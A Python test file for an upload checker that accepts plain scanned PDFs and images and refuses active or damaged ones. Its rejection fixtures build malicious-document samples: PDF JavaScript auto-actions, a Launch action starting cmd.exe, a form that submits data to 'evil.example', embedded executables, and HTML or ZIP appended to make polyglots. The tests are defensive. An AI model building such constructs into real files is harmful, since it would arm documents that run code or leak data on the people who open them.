"""What is in a file: what scanners and phones make is taken as it is, what acts by itself or cannot be opened is refused."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pytest

from functions.adapters.file_contents import content_problem, kind_of
from tests.scans import jpeg, png, scan, stream


def packed() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "b")
    return out.getvalue()


def written(*, script: bool = False, **how: object) -> bytes:
    """A PDF of one page as pikepdf writes it."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        if script:
            pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        pdf.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


OBJECT_STREAMS = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (scan(), "pdf"),
        (b"\n" + scan(), "pdf"),
        (b"\r\n\r\n" + scan(), "pdf"),
        (b"\xef\xbb\xbf" + scan(), "pdf"),
        (scan() + b"\0" * 8_000, "pdf"),
        (scan() + b"\r\n--boundary--\r\n" * 500, "pdf"),
        (b"\n" + written(**OBJECT_STREAMS) + b" " * 5_000, "pdf"),
        (
            scan() + b"4 0 obj\n<</Type/Annot>>\nendobj\nstartxref\n\n%%EO",
            "pdf",
        ),  # an addition that was cut off: what ends before it is whole
        (scan(catalogue=b"/Deep" + b"[" * 100 + b"]" * 100), "pdf"),
        (scan(catalogue=b"/OpenAction[3 0 R/Fit]"), "pdf"),
        (scan(catalogue=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), "pdf"),
        (scan(page=b"/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://desk.example)>>>>]"), "pdf"),
        (scan(catalogue=b"/Loop 4 0 R", more=(b"[4 0 R]",)), "pdf"),
        (jpeg(), "jpg"),
        (jpeg() + b"\0" * 3_000 + b"MotionPhoto_Data", "jpg"),
        (png(), "png"),
        (png() + b"\0" * 300, "png"),
    ],
)
def test_what_scanners_and_phones_make_is_taken(data: bytes, kind: str) -> None:
    assert (kind_of(data), content_problem(data, "scan")) == (kind, None)


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (scan(catalogue=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "JavaScript"),
        (scan(catalogue=b"/Names<</J#61vaScript<</Names[(a) 4 0 R]>>>>", more=(b"<</S/J#61vaScript/J#53(x)>>",)), "JavaScript"),
        (scan(page=b"/AA<</O<</S/JavaScript/JS 4 0 R>>>>", more=(stream(b"app.alert(1)"),)), "JavaScript"),
        (written(script=True, **OBJECT_STREAMS), "JavaScript"),
        (scan(page=b"/Annots[<</Type/Annot/Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>]"), "a command that starts a program"),
        (scan(catalogue=b"/OpenAction<</S/URI/URI(https://evil.example)>>"), "an action that starts by itself"),
        (scan(catalogue=b"/AcroForm<</XFA 4 0 R>>", more=(stream(b"<xdp/>"),)), "a form that changes itself"),
        (scan(page=b"/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.example)>>>>]"), "a form that sends data"),
        (scan(page=b"/Annots[<</Subtype/RichMedia>>]"), "film or sound"),
        (
            scan(
                catalogue=b"/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>",
                more=(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", stream(b"MZ", b"/Type/EmbeddedFile")),
            ),
            "another file",
        ),
        (scan(more=(stream(b"MZ", b"/Type/EmbeddedFile"),)), "another file"),
        (scan("<html><script>alert(1)</script>"), "a web page"),
        (scan() + b"<!DOCTYPE html><p>", "a web page"),
        (jpeg() + b"<script>alert(1)</script>", "a web page"),
        (scan() + packed(), "a ZIP archive"),
        (jpeg() + packed(), "a ZIP archive"),
        (png() + packed(), "a ZIP archive"),
    ],
)
def test_a_file_that_acts_by_itself_or_is_two_things_at_once_is_refused_with_what_is_in_it(data: bytes, what: str) -> None:
    found = content_problem(data, "scan")
    assert found
    assert (found.code, found.message) == (
        "upload_contains",
        f"“scan” contains {what}, and only plain pages and pictures are taken. Nothing was changed: print it to a new PDF and upload that.",
    )


@pytest.mark.parametrize("method", [4, 6])
def test_a_pdf_with_a_password_is_refused_also_where_it_opens_without(method: int) -> None:
    data = written(encryption=pikepdf.Encryption(owner="owner", user="", R=method))  # type: ignore[arg-type]
    found = content_problem(data, "scan")
    assert found
    assert (found.code, "print it to a new PDF" in found.message) == ("upload_locked", True)


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n%%",
        b"%PDF-1.7\n%%EOF",
        b"%PDF-1.7 torn off in the middle",
        scan()[:-20],
        scan().replace(b"Kids[3 0 R]/Count 1", b"Kids[     ]/Count 0"),
        scan(catalogue=b"/Deep" + b"[" * 101 + b"]" * 101),
        scan(catalogue=b"/Deep" + b"<</Deep" * 101 + b"[]" + b">>" * 101),
        scan(catalogue=b"/Deep" + b"[" * 5_000 + b"]" * 5_000),
        b"\xff\xd8\xff",
        jpeg()[:-2],
        jpeg()[:20],
        b"\x89PNG\r\n\x1a\n",
        png()[:-6],
        png().replace(b"IDAT", b"IDAX"),
        png().replace(b"x\x9c", b"x\x9d"),  # one byte of the picture is another
        png()[: png().index(b"IDAT") - 4] + png()[png().index(b"IEND") - 4 :],  # every part is whole, but there is no picture
        b"\xff\xd8\xff\xd9",
    ],
)
def test_what_is_nothing_but_a_beginning_or_cannot_be_opened_is_refused(data: bytes) -> None:
    found = content_problem(data, "scan")
    assert found
    assert (found.code, found.message) == (
        "upload_unreadable",
        "“scan” cannot be opened: it is damaged or incomplete. Nothing was changed: scan or save it again, open it once yourself, then upload it.",
    )


@pytest.mark.parametrize("data", [b"", b"MZ", b"<html>" + scan(), b"PK\x03\x04" + scan(), b"GIF89a"])
def test_a_file_is_of_a_kind_by_its_beginning_alone(data: bytes) -> None:
    assert kind_of(data) is None
